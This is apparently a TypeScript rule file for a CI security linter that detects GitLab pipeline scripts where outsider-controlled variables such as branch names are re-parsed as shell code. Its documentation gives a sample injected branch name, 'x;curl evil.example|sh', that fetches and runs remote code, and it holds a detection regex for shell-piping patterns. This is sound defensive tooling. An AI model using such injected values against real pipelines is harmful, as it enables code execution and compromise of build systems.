import {
  type GitlabInput,
  inputUsesIn,
  outsiderVariable,
  taintedInput,
} from '../../server/core/model/gitlab/input.ts';
import { handedScripts, isShellName } from '../../server/core/parse/shell/nested.ts';
import type { Command, Script, Word } from '../../server/core/parse/shell.ts';
import { type Context, defineRule } from '../../server/core/rule.ts';

const HINT = /\beval\b|\bssh\b|-[a-z]*[ce]\b|<<|\|\s{0,99}(?:sudo\s{1,99})?\w*sh\b/;

export default defineRule({
  id: 'gitlab-code-from-variable',
  summary: 'Text that an outsider writes is run as code',
  severity: 'high',
  confidence: 'high',
  profile: 'default',
  owasp: ['CICD-SEC-4'],
  cwe: [78, 94],
  since: '0.1.0',
  fix: 'none',
  equivalents: { 'pipeline-check': ['GL-002'], poutine: ['injection'] },
  kinds: ['gitlab-ci'],
  docs: `
    ## What it does
    Reports variables that a pusher or the author of a merge request fills (branch, tag, title, message, user name) in
    text that a further shell or interpreter reads: \`bash -c "…"\`, \`eval\`, \`ssh host "…"\`, \`python -c "…"\`,
    \`docker run … sh -c "…"\`, \`bash <<EOF\`, \`echo "…" | bash\`.

    Also inputs (\`$[[ inputs.name ]]\`) whose default or whose value in the \`include\` of the repository's own pipeline is
    such a variable: there, and in any script where \`expand_vars\` puts the text in before the shell reads it.

    ## Why is this bad?
    The variable is replaced first and the result is parsed again, so a branch called \`x;curl evil.example|sh\` runs.
    Quotes inside the outer quotes do not help: the name may hold quotes too.

    Hand the value over as an argument or through the environment.

    ## Example
    \`\`\`yaml bad .gitlab-ci.yml
    notify:
      script:
        - bash -c "echo built $CI_COMMIT_REF_NAME"
    \`\`\`
    Use instead:
    \`\`\`yaml good .gitlab-ci.yml
    notify:
      script:
        - bash -c 'echo "built $1"' - "$CI_COMMIT_REF_NAME"
    \`\`\`
  `,
  check: {
    script(ctx, script) {
      const inputs = script.text.includes('$[[') ? (ctx.document.facet('gitlab')[0]?.inputs ?? []) : [];
      if (inputs.length > 0) reportExpanded(ctx, script, inputs);
      if (!/CI_|GITLAB_USER|\$\[\[/.test(script.text) || !HINT.test(script.text)) return;
      for (const command of script.commands) {
        for (const word of codeOf(command)) {
          for (const piece of word.pieces) {
            const name = outsiderVariable(piece, inputs);
            if (name === undefined) continue;
            ctx.report({
              span: script.spanOf(piece),
              message: `An outsider fills \`${name}\`, and here it is parsed as code; hand it over as an argument.`,
            });
          }
        }
      }
    },
  },
});

/** What is put in as text, wherever it stands and whatever quotes are around it. */
function reportExpanded(ctx: Context, script: Script, inputs: readonly GitlabInput[]): void {
  for (const use of inputUsesIn(script.text)) {
    const tainted = use.expands && !use.escapes ? taintedInput(inputs, use.name) : undefined;
    if (!tainted) continue;
    ctx.report({
      span: script.spanOf({ from: use.start, to: use.end }),
      message: `An outsider's text (\`${tainted.variable}\`) becomes a part of this script; leave \`expand_vars\` out and quote it.`,
      related: [
        { span: tainted.value.node.span, source: tainted.value.source, message: 'it comes from here' },
      ],
    });
  }
}

/** The words whose text is parsed once more. */
function codeOf(command: Command): readonly Word[] {
  const { name, args, place } = command;
  // A script in quotes was expanded before its commands were read; it is reported once, at the outer command.
  if (place === 'script') return [];
  if (name === 'eval') return args;
  const handed = handedScripts(command);
  if (handed.length > 0) return handed;
  const inline = isShellName(name)
    ? /^-[a-z]*c$/
    : /^(?:python[\d.]*|perl|ruby|node|php)$/.test(name)
      ? /^-[a-z]*[cer]$/
      : undefined;
  const at = inline ? args.findIndex(({ text }) => inline.test(text)) : -1;
  return at === -1 ? [] : args.slice(at + 1, at + 2);
}
